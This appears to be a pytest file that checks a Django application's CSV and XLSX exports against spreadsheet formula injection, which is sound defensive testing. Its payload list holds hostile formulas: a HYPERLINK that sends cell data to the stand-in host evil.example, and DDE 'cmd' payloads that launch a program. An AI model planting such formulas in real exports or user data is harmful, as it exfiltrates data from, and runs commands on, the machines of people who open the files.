"""Spreadsheet formula injection: no CSV or XLSX the product hands out carries a live
formula, whatever people typed into the free-text fields that reach it.

Two halves: every route that exports CSV/XLSX is fetched with a formula seeded into every
free-text field that reaches it (titles, memos, code names and descriptions, Delphi
statements, controlled-list labels, what the audit log names); and a check that the table
of routes below is complete: every module of the product that produces CSV/XLSX is one of
those routes' (the writer itself lives in observatory_core/tabular.py; tests/contracts
checks nobody else writes CSV or XLSX).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from django.test import Client
from openpyxl import load_workbook

from observatory.audit.log import record
from observatory.cli import main
from observatory.coding.models import Code, Codebook
from observatory.coding.services import add_code, ensure_codebooks
from observatory.consultation import services as delphi
from observatory.ingestion.models import Recommendation
from observatory_core.tabular import FORMULA_START, safe_cell, unquote_cell

from .coding.conftest import coded_document  # noqa: F401  (fixture)
from .conftest import make_review, make_user, term

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
PAYLOAD = PAYLOADS[0]

SRC = Path(__file__).resolve().parents[2] / "src" / "observatory"
# Every module that produces CSV or XLSX, and the routes below that exercise it.
EXPORTERS = {
    "repository/api.py": ["api reviews export"],
    "analysis/views.py": ["analysis table download"],
    "consultation/views.py": ["delphi results"],
    "coding/exports.py": ["coding export"],
    "coding/views.py": ["coding export", "codebook export"],
    "coding/services.py": ["codebook export"],
    "cli.py": ["cli dataset export", "cli delphi results"],
    "web/views.py": ["audit log export"],
    "register/exchange.py": ["action plan export"],
    "research/extracts.py": ["research extract"],
    # Writes the demo corpus's CSV only to import it again; no person receives it.
    "repository/demo_loader.py": [],
}
_WRITES = re.compile(r"\b(write_csv|write_xlsx|csv_text|to_csv|to_xlsx)\b")


def test_every_module_that_writes_csv_or_xlsx_is_covered_here():
    found = {str(p.relative_to(SRC)) for p in SRC.rglob("*.py") if _WRITES.search(p.read_text())}
    assert found == set(EXPORTERS), (
        "a module writes CSV/XLSX that this test does not fetch (add its route): "
        f"{sorted(found - set(EXPORTERS))}; gone: {sorted(set(EXPORTERS) - found)}")


def _cells_csv(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
            for cell in row]


def _cells_xlsx(body: bytes) -> list[str]:
    sheet = load_workbook(io.BytesIO(body)).active
    out = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"live formula in {cell.coordinate}: {cell.value}"
            out.append("" if cell.value is None else str(cell.value))
    return out


def _assert_neutral(body: bytes, fmt: str, label: str) -> None:
    cells = _cells_xlsx(body) if fmt == "xlsx" else _cells_csv(body)
    live = [c for c in cells if c[:1] in FORMULA_START and not re.fullmatch(r"-?[\d.]+", c)]
    assert not live, f"{label} ({fmt}): cells a spreadsheet would run: {live}"
    # the seeded text did reach the export, shown as text
    assert any(unquote_cell(c).startswith(PAYLOAD) for c in cells), (
        f"{label} ({fmt}): payload missing")


@pytest.fixture
def seeded(coded_document):  # noqa: F811
    """A formula in every free-text field that reaches an export."""
    admin = make_user("admin")
    # the minimum dataset: a published review's title (and the coded one's)
    make_review("FORMULA-1")
    coded_document.review.__class__.objects.filter(
        reference__in=["FORMULA-1", coded_document.review.reference]).update(title=PAYLOAD)
    coded_document.__class__.objects.filter(pk=coded_document.pk).update(title=PAYLOAD)
    # a controlled-list label shown as a table's row
    term("review_type", "scr").__class__.objects.filter(
        vocabulary__key="review_type", code="scr").update(label=PAYLOAD)
    # coding: a code's name and description, and a coder's memo
    ensure_codebooks()
    code = Code.objects.get(codebook__key="recommendation_themes", key="training")
    Code.objects.filter(pk=code.pk).update(name=PAYLOAD, description=PAYLOAD)
    rec = Recommendation.objects.filter(version__document=coded_document).first()
    add_code(coder=admin, code=Code.objects.get(pk=code.pk), version=rec.version,
             target="recommendation", unit_pk=rec.pk, memo=PAYLOAD)
    # Delphi: a section's title and a statement's text
    study = delphi.create_study("Formula study", user=admin)
    section = delphi.add_section(study, PAYLOAD)
    delphi.add_statement(study, section, PAYLOAD)
    delphi.open_round(study.rounds.get())
    # the audit log: an event naming the document (its title first)
    coded_document.refresh_from_db()
    record(None, "view", coded_document, user=admin)
    # an action plan: a recommendation's text and an action's description
    from datetime import date

    from observatory.register import services as register

    review = coded_document.review.__class__.objects.get(reference="FORMULA-1")
    entry = register.type_in(review, number="1", text=PAYLOAD, user=None)
    register.start_plan(review, date(2026, 1, 1))
    register.add_action(entry, None, description=PAYLOAD, lead_agency=term("agency", "police"),
                        lead_role="Detective inspector", priority="low")
    # a research extract: the review's summary (free text) within a grant's scope
    from .conftest import OWN_AREA
    from .research_support import make_grant

    review.__class__.objects.filter(pk=review.pk).update(summary=PAYLOAD)
    researcher = make_user("researcher")
    grant = make_grant(researcher, admin, areas=[OWN_AREA], years=(1990, 2030))
    client = Client()
    client.force_login(admin)
    return {"client": client, "study": study, "grant": grant, "researcher": researcher,
            "codebook": Codebook.objects.get(key="recommendation_themes")}


def _web(seeded, url: str) -> bytes:
    response = seeded["client"].get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response.content


def _cli(*args: str) -> bytes:
    result = CliRunner().invoke(main, list(args), prog_name="observatory")
    assert result.exit_code == 0, result.output
    return result.stdout_bytes


def _extract(seeded, fmt: str) -> bytes:
    """The data file inside a research extract (a zip with its dictionary)."""
    import zipfile

    from observatory.research.extracts import build

    body = build(seeded["grant"], seeded["researcher"], fmt)[0]
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return archive.read(next(n for n in archive.namelist() if n.endswith(f".{fmt}")))


ROUTES = {
    "api reviews export": lambda s, f: _web(s, f"/api/reviews/export?format={f}"),
    "analysis table download": lambda s, f: _web(
        s, f"/analysis/tables/reviews_by_review_type/?download={f}"),
    "delphi results": lambda s, f: _web(s, f"/consultations/{s['study'].pk}/results.{f}"),
    "coding export": lambda s, f: _web(
        s, f"/coding/export/?codebook=recommendation_themes&format={f}"),
    "codebook export": lambda s, f: _web(
        s, f"/coding/codebooks/recommendation_themes/export/?format={f}"),
    "audit log export": lambda s, f: _web(s, f"/audit/?download={f}"),
    "action plan export": lambda s, f: _web(s, f"/reviews/FORMULA-1/action-plan.{f}"),
    "research extract": lambda s, f: _extract(s, f),
    "cli dataset export": lambda s, f: _cli("dataset", "export", "--format", f,
                                            "--user", "admin"),
    "cli delphi results": lambda s, f: _cli("delphi", "results", str(s["study"].pk),
                                            "--format", f),
}
# (route, format) pairs; the CLI writes XLSX only to a file and Delphi results as CSV only,
# codebooks as CSV (the other formats are TOML and XML).
CASES = [(r, f) for r in ROUTES for f in ("csv", "xlsx")
         if not (f == "xlsx" and r in ("cli dataset export", "cli delphi results",
                                       "codebook export"))]


def test_routes_table_matches_the_exporters():
    assert {r for routes in EXPORTERS.values() for r in routes} == set(ROUTES)


@pytest.mark.parametrize(("route", "fmt"), CASES, ids=[f"{r}-{f}" for r, f in CASES])
def test_no_export_carries_a_live_formula(seeded, route, fmt):
    _assert_neutral(ROUTES[route](seeded, fmt), fmt, route)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_neutralised_and_reads_back_exactly(payload):
    from observatory_core.tabular import csv_text, read_table, write_xlsx

    rows = [{"a": payload, "b": "'" + payload, "c": "-5", "d": "'plain"}]
    columns = ["a", "b", "c", "d"]
    for name, body in (("t.csv", csv_text(rows, columns).encode()),
                       ("t.xlsx", write_xlsx(rows, columns))):
        back = read_table(name, body)[0]
        assert {k: unquote_cell(str(v)) for k, v in back.items()} == rows[0], name
    assert safe_cell(payload)[0] == "'" and safe_cell("-5") == "-5" and safe_cell(3) == 3
